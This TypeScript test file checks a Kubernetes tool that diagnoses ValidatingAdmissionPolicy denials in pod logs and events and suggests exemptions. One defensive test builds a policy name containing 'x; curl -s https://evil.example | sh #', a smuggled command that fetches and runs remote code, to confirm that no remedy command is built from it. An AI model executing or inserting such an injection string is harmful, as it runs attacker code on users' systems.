import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { Diagnosis } from '../../src/diagnosis/index.ts'
import { Store } from '../../src/evidence/store.ts'
import type { Evidence } from '../../src/model/evidence.ts'
import {
  binding,
  cluster,
  crashed,
  diagnosed,
  event,
  extension,
  gap,
  later,
  listed,
  podLog,
  podStatus,
  policy,
  protectSpec,
} from '../evidence-builder.ts'

const refusal = `configmaps "settings" is forbidden: ValidatingAdmissionPolicy 'protect' with binding 'protect-binding' denied request: not allowed`
const line = `{"Message":"2026/03/09 Failed to create the configmap with err: ${refusal.replaceAll('"', '\\"')}","LogLevel":"Information"}`
const blocked: Evidence[] = [...listed(), cluster(), podStatus(), podLog(line), crashed()]

describe('the text is read, in the wording of different emitters', () => {
  const inner = `deployments.apps "web" is forbidden: ValidatingAdmissionPolicy 'p-1' with binding 'b-1' denied request: no: "quoted" words`
  const expected = {
    policy: 'p-1',
    binding: 'b-1',
    resource: 'deployments.apps',
    name: 'web',
    message: 'no: "quoted" words',
  }
  for (const [name, text, differing] of [
    ['plain text', `error: ${inner}`, {}],
    ['JSON with escaped quotes (zap, klog JSON)', JSON.stringify({ level: 'error', msg: 'x', error: inner }), {}],
    ['JSON inside JSON', JSON.stringify({ log: JSON.stringify({ error: inner }) }), {}],
    ['JSON after a prefix', `2026-03-09T12:00:00Z ERROR ${JSON.stringify({ error: inner })}`, {}],
    ['logfmt', `level=error err="${inner.replaceAll('"', '\\"')}"`, { message: 'no:' }],
    ['JSON that does not parse', `{"Message":"${inner.replaceAll('"', '\\"')}\\x","a":1}`, { message: 'no:' }],
    ['unicode escapes', `{"msg":"${inner.replaceAll('"', '\\u0022').replaceAll("'", '\\u0027')}"}`, {}],
    ['hard-wrapped lines', inner.replace(' with ', '\n  with '), {}],
    ['a Helm error around it', `release x failed: failed to create resource: ${inner}`, {}],
  ] as const)
    test(name, async () => {
      const { findings } = await diagnosed([...listed(), podStatus(), podLog(text)])
      assert.equal(findings.length, 1)
      const fields = Object.fromEntries(
        Object.entries(findings[0]?.fields ?? {}).map(([key, field]) => [key, field.value]),
      )
      for (const [key, value] of Object.entries({ ...expected, ...differing })) assert.equal(fields[key], value, key)
    })

  for (const [name, text] of [
    [
      'a warning of a binding that warns',
      "Warning: Validation failed for ValidatingAdmissionPolicy 'w' with binding 'w-b': not allowed",
    ],
    ['a policy that is merely named', 'created ValidatingAdmissionPolicy protect'],
    ['a webhook that refuses', 'admission webhook "x" denied the request: no'],
    [
      'Kubernetes RBAC',
      'configmaps "x" is forbidden: User "u" cannot create resource "configmaps" in API group "" in the namespace "n"',
    ],
  ] as const)
    test(`${name} is none`, async () => {
      const { findings } = await diagnosed([...listed(), podStatus(), podLog(text)])
      assert.deepEqual(
        findings.filter(finding => finding.class === 'admission-policy-denied'),
        [],
      )
    })
})

describe('who, what and how sure', () => {
  test("the service account is the pod's, the verb the sentence's", async () => {
    const { findings } = await diagnosed([...blocked, policy(protectSpec()), binding()])
    const { fields } = findings[0] ?? {}
    assert.deepEqual(fields?.serviceAccount, { value: 'system:serviceaccount:flux-system:operatorsa', origin: 'pod' })
    assert.deepEqual(fields?.verb, { value: 'create', origin: 'text' })
    assert.deepEqual(fields?.namespace, { value: 'flux-system', origin: 'pod' })
  })

  test('a sentence with two verbs names none, and every operation is evaluated', async () => {
    const { findings } = await diagnosed([
      ...blocked.slice(0, 3),
      podLog(`failed to create or update: ${refusal}`),
      crashed(),
      policy(protectSpec()),
      binding(),
    ])
    assert.equal(findings[0]?.fields.verb, undefined)
    assert.equal(findings[0]?.policyCheck?.verdict, 'denied')
    assert.match(findings[0]?.cause.join('\n') ?? '', /operation unknown/)
  })

  test("an event's service account is its controller's, and its verb is in how it begins", async () => {
    const text = `Error creating: pods "web-7c9d-64jsv" is forbidden: ValidatingAdmissionPolicy 'protect' with binding 'protect-binding' denied request: no`
    const { findings } = await diagnosed([
      ...listed(),
      cluster(),
      event(text),
      ...later(10),
      event(text, { count: 5 }),
      policy(protectSpec()),
      binding(),
    ])
    assert.deepEqual(findings[0]?.fields.serviceAccount, {
      value: 'system:serviceaccount:kube-system:replicaset-controller',
      origin: 'event-source',
    })
    assert.equal(findings[0]?.fields.verb?.value, 'create')
    assert.equal(findings[0]?.blocking, true)
  })

  test('refusals of generated names are one cause', async () => {
    const text = (name: string) =>
      `Error creating: pods "web-7c9d8f6b5-${name}" is forbidden: ValidatingAdmissionPolicy 'protect' denied request: no`
    const { findings } = await diagnosed([...listed(), event(text('64jsv')), event(text('k2j4x'))])
    assert.equal(findings.length, 1)
  })
})

describe('blocking', () => {
  for (const [name, facts, blocking] of [
    ['one refusal and its container ended non-zero', blocked, true],
    [
      'two starts of one container',
      [...listed(), podStatus(), podLog(line), podLog(line, { containerId: 'c2' })],
      true,
    ],
    ['one refusal, the container lives on', [...listed(), podStatus(), podLog(line)], false],
    [
      'one refusal, the pod is Ready',
      [...listed(), podStatus({ ready: true }, { ready: true }), podLog(line), podLog(line, { containerId: 'c2' })],
      false,
    ],
    ['many refusals in one start', [...listed(), podStatus(), podLog(line), podLog(line), podLog(line)], false],
    [
      'another container of the pod ended',
      [...listed(), podStatus(), podLog(line), podStatus({ name: 'other', state: 'terminated', exitCode: 1 })],
      false,
    ],
    [
      'an earlier start ended, this one lives on',
      [...listed(), podStatus(), podLog(line, { containerId: 'c2' }), crashed('c1'), podStatus({ id: 'c2' })],
      false,
    ],
    [
      'its pod is gone, and another of its owner is Ready',
      [
        ...blocked,
        podStatus({}, { deleted: true }),
        podStatus({ ready: true }, { ready: true }, 'controller-7c9f8d5b6c-other'),
      ],
      false,
    ],
    [
      'its pod is gone with the rollback',
      [...blocked, podStatus({ last: { id: 'c1', exitCode: 1, reason: 'Error' } }, { deleted: true })],
      true,
    ],
    [
      'the container ended with zero',
      [...listed(), podLog(line), podStatus({ state: 'terminated', exitCode: 0 })],
      false,
    ],
    [
      'an event once',
      [...listed(), event(`Error creating: pods "a" is forbidden: ValidatingAdmissionPolicy 'p' denied request: no`)],
      false,
    ],
  ] as const)
    test(name, async () => {
      const { findings } = await diagnosed([policy(protectSpec()), binding(), ...facts])
      assert.equal(findings[0]?.blocking, blocking)
    })
})

describe('the live policy', () => {
  const cases: [string, Evidence[], { verdict: string; conclusive: boolean }][] = [
    ['denies: conclusive', [policy(protectSpec()), binding()], { verdict: 'denied', conclusive: true }],
    [
      'admits by now, the group is exempt: never conclusive',
      [policy(protectSpec(['system:serviceaccounts:flux-system'])), binding()],
      { verdict: 'admitted', conclusive: false },
    ],
    [
      'only audits: never conclusive',
      [policy(protectSpec()), binding(['Audit'])],
      { verdict: 'admitted', conclusive: false },
    ],
    ['is gone: never conclusive', [], { verdict: 'admitted', conclusive: false }],
    [
      'cannot be judged: conclusive still, the exemption unchecked',
      [policy({ ...protectSpec(), validations: [{ expression: "object.data.x == 'y'" }] }), binding()],
      { verdict: 'undetermined', conclusive: true },
    ],
  ]
  for (const [name, facts, { verdict, conclusive }] of cases)
    test(name, async () => {
      const { findings } = await diagnosed([...facts, ...blocked])
      assert.equal(findings[0]?.policyCheck?.verdict, verdict)
      assert.equal(findings[0]?.conclusive, conclusive)
    })

  test('cannot be read: conclusive still, and said', async () => {
    const { findings } = await diagnosed([
      gap('policies'),
      gap('bindings'),
      cluster(),
      podStatus(),
      podLog(line),
      crashed(),
    ])
    assert.equal(findings[0]?.policyCheck?.verdict, 'not-read')
    assert.equal(findings[0]?.conclusive, true)
  })

  test('has not been read yet: not conclusive yet', async () => {
    const { findings } = await diagnosed([cluster(), podStatus(), podLog(line), crashed()])
    assert.equal(findings[0]?.conclusive, false)
  })

  test('is evaluated again when it changes after the line', async () => {
    const { findings } = await diagnosed([
      policy(protectSpec()),
      binding(),
      ...blocked,
      policy(protectSpec(['system:serviceaccounts:flux-system'])),
    ])
    assert.equal(findings[0]?.conclusive, false)
  })

  test('another policy that refuses the same is named', async () => {
    const { findings } = await diagnosed([
      policy(protectSpec()),
      binding(),
      policy(protectSpec(), 'second'),
      binding(['Deny'], 'second'),
      ...blocked,
    ])
    assert.deepEqual(findings[0]?.policyCheck?.alsoRefusedBy, ['second'])
  })
})

describe('the exemption', () => {
  test('group and carve-out, each denied before and admitted after', async () => {
    const { findings } = await diagnosed([policy(protectSpec()), binding(), ...blocked])
    const exemptions = findings[0]?.policyCheck?.exemptions ?? []
    assert.deepEqual(
      exemptions.map(({ kind, before, after, added }) => ({ kind, before, after, added })),
      [
        { kind: 'group', before: 'denied', after: 'admitted', added: false },
        { kind: 'carve-out', before: 'denied', after: 'admitted', added: true },
      ],
    )
    assert.equal(exemptions[0]?.exempts, 'system:serviceaccounts:flux-system')
    assert.match(exemptions[0]?.diff ?? '', /^\+.*'system:masters', 'system:serviceaccounts:flux-system'\]/m)
    assert.match(exemptions[1]?.patched ?? '', /request\.name == 'settings'/)
  })

  for (const [name, expression] of [
    ['double quotes', '!request.userInfo.groups.exists(x, x in ["system:masters", "system:nodes"])'],
    ['groups compared one by one', "!('system:masters' in request.userInfo.groups)"],
    ['all instead of exists', "request.userInfo.groups.all(g, !(g in ['system:masters']))"],
    ['a list of users only', "!(request.userInfo.username in ['admin'])"],
    [
      'lines and comments',
      "!(request.userInfo.groups.exists(g, g in [\n  'system:masters', // admins\n  'system:nodes'\n]))",
    ],
  ] as const)
    test(`admits after, spelled with ${name}`, async () => {
      const spec = { ...protectSpec(), matchConditions: [{ name: 'c', expression }] }
      const { findings } = await diagnosed([policy(spec), binding(), ...blocked])
      for (const { before, after, kind } of findings[0]?.policyCheck?.exemptions ?? [])
        assert.deepEqual([kind, before, after], [kind, 'denied', 'admitted'])
      assert.equal(findings[0]?.policyCheck?.exemptions.length, 2)
    })

  test('a list in a policy variable is edited there', async () => {
    const spec = {
      ...protectSpec(),
      matchConditions: [],
      variables: [{ name: 'exempt', expression: "['system:masters']" }],
      validations: [{ expression: 'request.userInfo.groups.exists(g, g in variables.exempt)' }],
    }
    const { findings } = await diagnosed([policy(spec), binding(), ...blocked])
    const [group] = findings[0]?.policyCheck?.exemptions ?? []
    assert.deepEqual([group?.place, group?.added, group?.after], ['variable exempt', false, 'admitted'])
  })
})

describe('who can apply it', () => {
  for (const [name, state, policyName, who] of [
    [
      'managed system node pools: only AKS, and that comes first',
      { managedSystemNodePools: true },
      'aks-managed-x',
      'aks',
    ],
    ['classic Automatic: a cluster admin', { managedSystemNodePools: false }, 'aks-managed-x', 'cluster-admin'],
    ['Standard: a cluster admin', { sku: 'Base', managedSystemNodePools: false }, 'protect', 'cluster-admin'],
  ] as const)
    test(name, async () => {
      const facts = [podStatus(), podLog(line.replaceAll('protect', policyName)), crashed()]
      const { findings } = await diagnosed([
        ...listed(),
        cluster(state),
        policy(protectSpec(), policyName),
        binding(['Deny'], policyName),
        ...facts,
      ])
      assert.equal(findings[0]?.remedy.steps[0]?.who, who)
    })

  test('where the policy admits by now, no exemption is advised', async () => {
    const { findings } = await diagnosed([
      policy(protectSpec(['system:serviceaccounts:flux-system'])),
      binding(),
      ...blocked,
    ])
    assert.deepEqual(findings[0]?.policyCheck?.exemptions, [])
    assert.match(
      findings[0]?.remedy.steps[0]?.text ?? '',
      /match condition non-exempt-groups exempts it\), so it needs no exemption/,
    )
  })
})

describe('what earlier versions got wrong', () => {
  const events = (old: boolean, count: number) =>
    event(
      `Error creating: pods "web-7c9d-64jsv" is forbidden: ValidatingAdmissionPolicy 'protect' denied request: no`,
      { old, count },
    )

  test('events of an earlier try, an hour old, do not end a run', async () => {
    const { findings } = await diagnosed([...listed(), policy(protectSpec()), binding(), events(true, 14)])
    assert.equal(findings[0]?.blocking, false)
  })

  for (const [name, seconds, blocking] of [
    ['within the seconds in which controllers try again at once, do not', 1, false],
    ['some time later, does', 10, true],
  ] as const)
    test(`the same event, met more often in this run ${name}`, async () => {
      const { findings } = await diagnosed([
        ...listed(),
        policy(protectSpec()),
        binding(),
        events(true, 14),
        events(false, 16),
        ...later(seconds),
        events(false, 18),
      ])
      assert.equal(findings[0]?.blocking, blocking)
      assert.equal(findings[0]?.seen, 4)
    })

  test("a word after 'in the namespace' in the policy's message is no namespace", async () => {
    const text = line.replace('denied request: not allowed', 'denied request: Changes in the namespace are reserved')
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      podStatus(),
      podLog(text),
      crashed(),
    ])
    assert.equal(findings[0]?.fields.namespace?.value, 'flux-system')
    assert.equal(findings[0]?.conclusive, true)
  })

  test('objects and callers that differ are findings of their own', async () => {
    const text = (name: string) =>
      `create: configmaps "${name}" is forbidden: ValidatingAdmissionPolicy 'protect' denied request: no`
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      podStatus({}, { serviceAccount: 'sa-alpha' }, 'alpha-0'),
      podStatus({}, { serviceAccount: 'sa-beta' }, 'beta-0'),
      podLog(text('app-cache'), { pod: 'alpha-0' }),
      podLog(text('app-state'), { pod: 'beta-0' }),
      podLog(text('app-cache'), { pod: 'beta-0' }),
    ])
    assert.deepEqual(
      findings.map(({ fields }) => [fields.name?.value, fields.serviceAccount?.value.split(':').at(-1)]),
      [
        ['app-cache', 'sa-alpha'],
        ['app-state', 'sa-beta'],
        ['app-cache', 'sa-beta'],
      ],
    )
  })

  test('without a resource in the text there is no carve-out', async () => {
    const text = "create failed: ValidatingAdmissionPolicy 'protect' denied request: no"
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      podStatus(),
      podLog(text),
      crashed(),
    ])
    assert.deepEqual(
      findings[0]?.policyCheck?.exemptions.map(each => each.kind),
      ['group'],
    )
  })

  test("for Kubernetes' own controllers no group is exempted, and a generated name is carved out by what stays of it", async () => {
    const { findings } = await diagnosed([...listed(), cluster(), policy(protectSpec()), binding(), events(false, 3)])
    const [only, ...others] = findings[0]?.policyCheck?.exemptions ?? []
    assert.deepEqual(others, [])
    assert.equal(findings[0]?.policyCheck?.group, '')
    assert.match(only?.patched ?? '', /request\.name\.startsWith\('web-/)
    assert.equal(only?.after, 'admitted')
  })

  test('a policy that admits by now is not the cause: nothing blocks, and why is said', async () => {
    for (const [facts, why] of [
      [[policy(protectSpec()), binding(['Audit'])], /the binding's action is Audit/],
      [
        [policy(protectSpec(['system:serviceaccounts:flux-system'])), binding()],
        /match condition non-exempt-groups exempts it/,
      ],
    ] as const) {
      const { findings } = await diagnosed([...facts, ...blocked])
      assert.equal(findings[0]?.blocking, false)
      assert.equal(findings[0]?.implicated, false)
      assert.match(findings[0]?.cause.join(' ') ?? '', why)
      assert.doesNotMatch(findings[0]?.cause.join(' ') ?? '', /Waiting will not help/)
    }
  })

  test('the verb may stand beside the error in a structured log', async () => {
    const text = JSON.stringify({ msg: 'unable to create the configmap', error: refusal, logger: 'update-controller' })
    const { findings } = await diagnosed([...listed(), podStatus(), podLog(text)])
    assert.equal(findings[0]?.fields.verb?.value, 'create')
  })

  test('a policy that was not read leaves the group to suggest, unchecked', async () => {
    const { findings } = await diagnosed([gap('policies'), gap('bindings'), podStatus(), podLog(line), crashed()])
    assert.equal(findings[0]?.policyCheck?.group, 'system:serviceaccounts:flux-system')
  })

  test('a policy that is gone after its watch broke off and came back is gone', async () => {
    const { findings } = await diagnosed([gap('policies', 'reset'), ...listed(), podStatus(), podLog(line), crashed()])
    assert.equal(findings[0]?.policyCheck?.verdict, 'admitted')
  })

  test('a container that does not end, its pod not Ready, is implicated: the likely cause', async () => {
    const { findings } = await diagnosed([...listed(), policy(protectSpec()), binding(), podStatus(), podLog(line)])
    assert.deepEqual([findings[0]?.blocking, findings[0]?.implicated], [false, true])
  })

  test('an extension that AKS Automatic does not support gets no exemption to wait for', async () => {
    const dapr: Evidence = {
      kind: 'run',
      time: '2026-03-09T12:00:00Z',
      text: '',
      data: { inputs: { 'extension-type': 'microsoft.dapr' } },
    }
    const { findings } = await diagnosed([dapr, ...blocked, policy(protectSpec()), binding()])
    const texts = findings[0]?.remedy.steps.map(step => step.text).join(' ') ?? ''
    assert.match(texts, /not supported on AKS Automatic/)
    assert.doesNotMatch(texts, /Until then|only AKS/)
  })

  test('a policy made to be evaluated without end is given up, and the finding stands unchecked', async () => {
    const list = `[${Array.from({ length: 900 }, (_, n) => n).join(',')}]`
    const slow = {
      ...protectSpec(),
      validations: [{ expression: `${list}.all(a, ${list}.all(b, ${list}.all(c, a + b + c >= 0)))` }],
    }
    const began = performance.now()
    const { findings } = await diagnosed([
      ...listed(),
      policy(slow),
      binding(),
      podStatus(),
      podLog(line),
      podLog(line),
      crashed(),
    ])
    assert.equal(findings[0]?.policyCheck?.verdict, 'undetermined')
    assert.equal(findings[0]?.conclusive, true)
    assert.ok(performance.now() - began < 5000)
  })

  for (const [name, spec] of [
    ['no spec', undefined],
    ['match conditions that are no list', { ...protectSpec(), matchConditions: {} }],
    ['validations that are no list', { ...protectSpec(), validations: 'x' }],
  ] as const)
    test(`a policy with ${name} trips nothing`, async () => {
      const { findings } = await diagnosed([
        ...listed(),
        policy(spec as object),
        binding(),
        podStatus(),
        podLog(line),
        crashed(),
      ])
      assert.equal(findings.length, 1)
    })

  test('a name that a shell would read as more than a name is in no command', async () => {
    const evil = line.replaceAll('protect', 'x; curl -s https://evil.example | sh #')
    const { findings } = await diagnosed([
      gap('policies'),
      gap('bindings'),
      cluster({ sku: 'Base', managedSystemNodePools: false }),
      podStatus(),
      podLog(evil),
      crashed(),
    ])
    assert.match(findings[0]?.fields.policy?.value ?? '', /curl/)
    for (const step of findings[0]?.remedy.steps ?? []) assert.equal(step.command, undefined)
  })

  test('how a thing is said to be is no verb of what was done', async () => {
    const { findings } = await diagnosed([
      ...listed(),
      podStatus(),
      podLog(`failed to apply the updated settings: ${refusal}`),
    ])
    assert.equal(findings[0]?.fields.verb, undefined)
  })

  test('a verb that the policy is not for does not contradict the server: every operation is tried', async () => {
    const spec = protectSpec()
    const onlyCreate = {
      ...spec,
      matchConstraints: {
        ...spec.matchConstraints,
        resourceRules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['CREATE'], resources: ['*/*'] }],
      },
    }
    const { findings } = await diagnosed([
      ...listed(),
      policy(onlyCreate),
      binding(),
      podStatus(),
      podLog(`cannot delete what is old: ${refusal}`),
      crashed(),
    ])
    assert.equal(findings[0]?.policyCheck?.verdict, 'denied')
    assert.equal(findings[0]?.conclusive, true)
  })

  test("a log full of other refusals does not hide another container's", async () => {
    const noise = Array.from({ length: 5000 }, (_, n) =>
      podLog(`ValidatingAdmissionPolicy 'p${n}' denied request: no`, { pod: 'noise-0', podUid: 'n' }),
    )
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      ...noise,
      podStatus(),
      podLog(line),
      crashed(),
    ])
    assert.equal(findings[0]?.fields.policy?.value, 'protect')
    assert.ok(findings.length < 30)
  })

  test('a container that was ended from outside has not failed on what it logged', async () => {
    const ended = podStatus({ state: 'waiting', last: { id: 'c1', exitCode: 143, reason: 'Error' } })
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      podStatus(),
      podLog(line),
      ended,
    ])
    assert.equal(findings[0]?.blocking, false)
  })

  test('one refusal each from two pods of one name is not two starts of one container', async () => {
    const { findings } = await diagnosed([
      ...listed(),
      policy(protectSpec()),
      binding(),
      podLog(line, { pod: 'db-0', podUid: 'first', containerId: 'a' }),
      podStatus({ id: 'b' }, { uid: 'second' }, 'db-0'),
      podLog(line, { pod: 'db-0', podUid: 'second', containerId: 'b' }),
    ])
    assert.equal(findings[0]?.blocking, false)
  })

  test('a pod that was there before the write blocks nothing while the write goes on', async () => {
    for (const [state, blocking] of [
      ['Updating', false],
      ['Failed', true],
    ] as const) {
      const { findings } = await diagnosed([
        ...listed(),
        policy(protectSpec()),
        binding(),
        podStatus(),
        extension(state),
        podLog(line),
        crashed(),
      ])
      assert.equal(findings[0]?.blocking, blocking, state)
    }
  })

  test('what the end of the write changes is concluded anew', async () => {
    const store = new Store()
    const diagnosis = new Diagnosis(store)
    const blocking = async (facts: readonly Evidence[]) => {
      for (const fact of facts) {
        store.apply(fact)
        diagnosis.observe(fact)
      }
      return (await diagnosis.findings())[0]?.blocking
    }
    assert.equal(
      await blocking([
        ...listed(),
        policy(protectSpec()),
        binding(),
        podStatus(),
        extension('Updating'),
        podLog(line),
        crashed(),
      ]),
      false,
    )
    assert.equal(await blocking([extension('Failed')]), true)
  })

  test('what another policy costs says nothing of this one', async () => {
    const list = `[${Array.from({ length: 900 }, (_, n) => n).join(',')}]`
    const slow = {
      ...protectSpec(),
      validations: [{ expression: `${list}.all(a, ${list}.all(b, ${list}.all(c, a + b + c >= 0)))` }],
    }
    const { findings } = await diagnosed([
      policy(protectSpec()),
      binding(),
      policy(slow, 'slow'),
      binding(['Deny'], 'slow'),
      ...blocked,
    ])
    assert.equal(findings[0]?.policyCheck?.verdict, 'denied')
    assert.equal(findings[0]?.policyCheck?.exemptions[0]?.after, 'admitted')
  })
})
